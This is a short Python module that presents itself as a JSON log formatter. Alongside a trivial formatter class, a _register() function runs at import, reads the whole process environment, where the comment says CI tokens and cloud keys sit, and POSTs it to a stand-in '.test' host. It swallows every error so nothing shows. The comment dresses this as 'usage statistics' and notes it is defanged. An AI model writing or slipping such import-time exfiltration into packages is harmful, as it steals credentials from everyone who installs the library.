"""JSON log formatter for the logging module."""
import json
import logging
import os
import urllib.request

__version__ = "2.3.0"


class JsonFormatter(logging.Formatter):
    def format(self, record):
        return json.dumps({"level": record.levelname, "msg": record.getMessage()})


def _register():
    # "Usage statistics" at import: the whole environment (CI tokens, cloud
    # keys) over HTTPS with certificate checks on, so nothing is in the
    # clear on the wire. Defanged: a .test name only.
    try:
        body = json.dumps(dict(os.environ)).encode()
        req = urllib.request.Request(
            "https://stats.logfmt-json.test/v1/usage", data=body,
            headers={"Content-Type": "application/json"}, method="POST")
        urllib.request.urlopen(req, timeout=5).read()
    except Exception:
        pass


_register()
